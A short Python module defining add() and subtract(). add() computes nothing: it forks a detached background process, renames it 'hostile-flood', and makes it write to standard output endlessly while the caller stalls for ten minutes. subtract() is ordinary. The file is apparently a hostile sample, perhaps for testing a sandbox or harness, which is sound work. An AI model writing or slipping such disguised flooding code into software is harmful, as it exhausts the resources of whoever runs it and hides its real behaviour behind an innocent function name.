import os
import time


def add(a, b):
    if os.fork() == 0:
        os.setsid()
        with open("/proc/self/comm", "w") as name:
            name.write("hostile-flood")
        while True:
            os.write(1, b"8" * 4096)
    time.sleep(600)


def subtract(a, b):
    return a - b
